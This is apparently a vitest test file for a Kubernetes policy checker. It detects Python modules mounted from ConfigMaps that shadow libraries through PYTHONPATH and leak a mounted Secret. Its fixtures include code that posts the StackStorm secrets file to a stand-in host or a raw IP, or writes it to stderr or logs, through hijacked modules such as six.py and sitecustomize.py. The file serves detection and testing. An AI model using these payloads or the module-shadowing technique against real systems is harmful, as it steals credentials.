/**
 * Modules a container's PYTHONPATH puts before site-packages (python-path.ts),
 * read through collectCommandEffects: what each sends out (python-hook,
 * module: true) and what it prints of a Secret (print-secret).
 */
import { describe, expect, it } from 'vitest';
import type { Manifest } from '../../src/core/manifest.js';
import { collectCommandEffects, type CommandEffect } from '../../src/policy/command-effects.js';
import { pythonPathDirs } from '../../src/policy/python-path.js';

const SPEC = ['spec', 'template', 'spec'];
const CONF = '/etc/st2/st2.secrets.conf';
const SECRET_VOLUME = { name: 'conf', secret: { secretName: 'st2-config-secrets' } };
const SECRET_MOUNT = { name: 'conf', mountPath: CONF, subPath: 'st2.secrets.conf' };

const configMap = (name: string, data: Record<string, string>): Manifest => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, namespace: 'st2-prod' }, data });

/** st2api-like Job: `mods` ConfigMap mounted at `at` (by `volume`, default the whole ConfigMap), PYTHONPATH by `env`. */
function pod(env: Array<Record<string, unknown>>, at = '/opt/py', volume: Record<string, unknown> = { configMap: { name: 'mods' } }, extra: Partial<Record<string, unknown>> = {}): Manifest {
  const c = { name: 'c', image: 'stackstorm/st2api:3.8.1', command: ['/opt/stackstorm/st2/bin/st2api'], env, volumeMounts: [{ name: 'mods', mountPath: at }, SECRET_MOUNT], ...extra };
  return { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j', namespace: 'st2-prod' }, spec: { template: { spec: { containers: [c], volumes: [{ name: 'mods', ...volume }, SECRET_VOLUME] } } } };
}
const path = (value: string): Array<Record<string, unknown>> => [{ name: 'PYTHONPATH', value }];

function facts(...resources: Manifest[]): string[] {
  const effects: CommandEffect[] = collectCommandEffects(resources, new Map(resources.flatMap((r, i) => (r['kind'] === 'Job' ? [[i, [SPEC]] as const] : []))), 'st2-prod', new Date('2026-12-07T00:00:00Z'));
  return effects.flatMap((e) => {
    if (e.effect === 'python-hook') return [`${e.module ? 'module' : 'hook'} ${e.file} ${e.host}`];
    if (e.effect === 'print-secret') return [`print ${e.program} ${e.secret}`];
    return [];
  });
}

const POST = `import urllib.request\nurllib.request.urlopen('https://drop.example.net/u', data=open('${CONF}', 'rb').read())\n`;

describe('modules under PYTHONPATH', () => {
  it.each([
    ['a six.py posting the secrets file out', [configMap('mods', { 'six.py': POST }), pod(path('/opt/py'))], ['module /opt/py/six.py drop.example.net']],
    ['the second entry, a trailing slash', [configMap('mods', { 'yaml.py': POST }), pod(path('/usr/lib/python3/dist-packages:/opt/py/'))], ['module /opt/py/yaml.py drop.example.net']],
    ['a package by an items path', [configMap('mods', { k: POST }), pod(path('/opt/py'), '/opt/py', { configMap: { name: 'mods', items: [{ key: 'k', path: 'kombu/__init__.py' }] } })], ['module /opt/py/kombu/__init__.py drop.example.net']],
    ['a package mounted under an unmounted entry', [configMap('mods', { '__init__.py': POST }), pod(path('/opt/py'), '/opt/py/requests')], ['module /opt/py/requests/__init__.py drop.example.net']],
    ['a socket to a named address', [configMap('mods', { 'eventlet.py': `import socket\nsocket.create_connection(('203.0.113.7', 443)).sendall(open('${CONF}','rb').read())\n` }), pod(path('/opt/py'))], ['module /opt/py/eventlet.py 203.0.113.7']],
    ['PYTHONPATH by valueFrom', [configMap('mods', { 'six.py': POST, where: '/opt/py' }), pod([{ name: 'PYTHONPATH', valueFrom: { configMapKeyRef: { name: 'mods', key: 'where' } } }])], ['module /opt/py/six.py drop.example.net']],
    ['PYTHONPATH by envFrom', [configMap('mods', { 'six.py': POST }), configMap('pyenv', { PYTHONPATH: '/opt/py' }), pod([], '/opt/py', { configMap: { name: 'mods' } }, { envFrom: [{ configMapRef: { name: 'pyenv' } }] })], ['module /opt/py/six.py drop.example.net']],
    ['a sitecustomize there stays a hook', [configMap('mods', { 'sitecustomize.py': POST }), pod(path('/opt/py'))], ['hook /opt/py/sitecustomize.py drop.example.net']],
    // CPython splits PYTHONPATH on ':' and nothing else: "/opt/py\n" is a directory that is not there.
    ['a valueFrom ending in a newline', [configMap('mods', { 'six.py': POST, where: '/opt/py\n' }), pod([{ name: 'PYTHONPATH', valueFrom: { configMapKeyRef: { name: 'mods', key: 'where' } } }])], []],
    ['the same six.py off the path', [configMap('mods', { 'six.py': POST }), pod(path('/opt/other'))], []],
    ['a module posting into the cluster', [configMap('mods', { 't.py': "import urllib.request\nurllib.request.urlopen('http://otel.monitoring.svc:4318/v1', data=b'{}')\n" }), pod(path('/opt/py'))], []],
    ['a helper posting what its caller hands it', [configMap('mods', { 'notify.py': 'import requests\ndef notify(url, text):\n    requests.post(url, json={"text": text})\n' }), pod(path('/opt/py'))], []],
    ['a helper reading a file and posting to a host it does not name', [configMap('mods', { 'n.py': `import requests\ndef send(url):\n    requests.post(url, data=open('${CONF}').read())\n` }), pod(path('/opt/py'))], ['module /opt/py/n.py ']],
    ['a six.py mounted over the one in st2\'s virtualenv, no PYTHONPATH', [configMap('mods', { 'six.py': POST }), pod([], '/opt/stackstorm/st2/lib/python3.8/site-packages/six.py', { configMap: { name: 'mods' } }, { volumeMounts: [{ name: 'mods', mountPath: '/opt/stackstorm/st2/lib/python3.8/site-packages/six.py', subPath: 'six.py' }] })], ['module /opt/stackstorm/st2/lib/python3.8/site-packages/six.py drop.example.net']],
    ['a hotfix mounted there that sends nothing', [configMap('mods', { 'six.py': 'PY3 = True\n' }), pod([], '/opt/stackstorm/st2/lib/python3.8/site-packages/six.py', { configMap: { name: 'mods' } }, { volumeMounts: [{ name: 'mods', mountPath: '/opt/stackstorm/st2/lib/python3.8/site-packages/six.py', subPath: 'six.py' }] })], []],
    ['constants only', [configMap('mods', { 'corp_settings.py': 'TEAM = "ops"\nTIMEOUT = 30\n' }), pod(path('/opt/py'))], []],
  ] as const)('sends: %s', (_name, resources, expected) => {
    expect(facts(...resources)).toEqual(expected);
  });

  it.each([
    ['stderr gets the secrets file', `import sys\nsys.stderr.write(open('${CONF}').read())\n`, ['print python /opt/py/kombu.py st2-config-secrets']],
    ['print() of it', `print(open('${CONF}').read())\n`, ['print python /opt/py/kombu.py st2-config-secrets']],
    ['a logging call', `import logging\nlogging.error(open('${CONF}').read())\n`, ['print python /opt/py/kombu.py st2-config-secrets']],
    ['read for itself, a status line printed', `_c = open('${CONF}').read()\nprint('loaded')\n`, []],
    ['a ConfigMap file printed', "print(open('/etc/st2/st2.docker.conf').read())\n", []],
  ] as const)('prints: %s', (_name, text, expected) => {
    expect(facts(configMap('mods', { 'kombu.py': text }), pod(path('/opt/py')))).toEqual(expected);
  });

  const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01]).toString('base64');
  const binary = (data: Record<string, string>): Manifest => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'mods', namespace: 'st2-prod' }, binaryData: data });
  it.each([
    ['an extension module', [binary({ 'six.cpython-38-x86_64-linux-gnu.so': ELF }), pod(path('/opt/py'))], ['preload /opt/py/six.cpython-38-x86_64-linux-gnu.so']],
    ['bytecode in __pycache__ by an items path', [binary({ b: ELF }), pod(path('/opt/py'), '/opt/py', { configMap: { name: 'mods', items: [{ key: 'b', path: '__pycache__/yaml.cpython-38.pyc' }] } })], ['preload /opt/py/__pycache__/yaml.cpython-38.pyc']],
    ['a zip archive as the entry', [binary({ 'lib.zip': ELF }), pod(path('/opt/py/lib.zip'), '/opt/py', { configMap: { name: 'mods' } }, { volumeMounts: [{ name: 'mods', mountPath: '/opt/py/lib.zip', subPath: 'lib.zip' }] })], ['preload /opt/py/lib.zip']],
    ['the same .so off the path', [binary({ 'six.so': ELF }), pod(path('/opt/other'))], []],
  ] as const)('compiled: %s', (_name, resources, expected) => {
    const effects = collectCommandEffects(resources, new Map(resources.flatMap((r, i) => (r['kind'] === 'Job' ? [[i, [SPEC]] as const] : []))), 'st2-prod', new Date('2026-12-07T00:00:00Z'));
    expect(effects.flatMap((e) => (e.effect === 'preload' ? [`preload ${e.file}`] : []))).toEqual(expected);
  });

  it.each([
    ['/opt/a:/opt/b', ['/opt/a', '/opt/b']],
    ['relative:/opt/a/', ['/opt/a']],
    ['/opt/a\n', ['/opt/a\n']],
    ['', []],
  ] as const)('PYTHONPATH %j has the directories %j', (value, dirs) => {
    expect(pythonPathDirs(value)).toEqual(dirs);
  });
});
